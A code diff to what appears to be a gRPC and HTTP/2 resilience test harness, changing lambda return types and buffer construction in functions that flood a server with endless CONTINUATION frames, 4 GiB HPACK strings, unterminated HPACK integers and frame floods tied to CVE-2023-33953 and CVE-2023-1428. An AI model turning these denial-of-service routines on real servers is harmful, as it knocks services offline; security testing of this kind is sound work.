@@ -264,7 +264,7 @@ int EndlessContinuations(const AttackedServer& server, absl::Time until) {
   for (int i = 0; i < 500; ++i) many += part;
   return Flood(server.plain, until,
                Hello() + Frame(http2::kHeaders, 0, 1, http2::CallFields(kCompile)),
-               [&](uint32_t /*i*/) { return many; });
+               [&](uint32_t /*i*/) -> absl::string_view { return many; });
 }
 
 // An HPACK string of 4 GiB: CVE-2023-33953.
@@ -273,7 +273,7 @@ int EndlessHpackString(const AttackedServer& server, absl::Time until) {
                                          http2::HpackInteger(uint64_t{1} << 31, 7, 0));
   const std::string more = Frame(http2::kContinuation, 0, 1, std::string(16000, 'x'));
   return Flood(server.plain, until, Hello() + Frame(http2::kHeaders, 0, 1, start),
-               [&](uint32_t /*i*/) { return more; });
+               [&](uint32_t /*i*/) -> absl::string_view { return more; });
 }
 
 // An HPACK integer with zeros before it, without an end: CVE-2023-33953.
@@ -282,7 +282,7 @@ int EndlessHpackInteger(const AttackedServer& server, absl::Time until) {
       absl::StrCat(http2::CallFields(kCompile), absl::string_view("\0\x7f", 2));
   const std::string more = Frame(http2::kContinuation, 0, 1, std::string(16000, '\x80'));
   return Flood(server.plain, until, Hello() + Frame(http2::kHeaders, 0, 1, start),
-               [&](uint32_t /*i*/) { return more; });
+               [&](uint32_t /*i*/) -> absl::string_view { return more; });
 }
 
 // Fields that gRPC 1.51 ends the process over, in a header block of more than 8 KB: CVE-2023-1428.
@@ -351,8 +351,12 @@ int StreamFlood(const AttackedServer& server, absl::Time until) {
 template <uint8_t kType, int kBytes, uint32_t kStream>
 int FrameFlood(const AttackedServer& server, absl::Time until) {
   std::string bytes;
-  for (int i = 0; i < 500; ++i) bytes += Frame(kType, 0, kStream, std::string(kBytes, '\0'));
-  return Flood(server.plain, until, Hello() + CallWith(""), [&](uint32_t /*i*/) { return bytes; });
+  const std::vector<char> payload(kBytes);
+  for (int i = 0; i < 500; ++i) {
+    bytes += Frame(kType, 0, kStream, absl::string_view(payload.data(), payload.size()));
+  }
+  return Flood(server.plain, until, Hello() + CallWith(""),
+               [&](uint32_t /*i*/) -> absl::string_view { return bytes; });
 }
 
 int WindowOverflow(const AttackedServer& server, absl::Time until) {
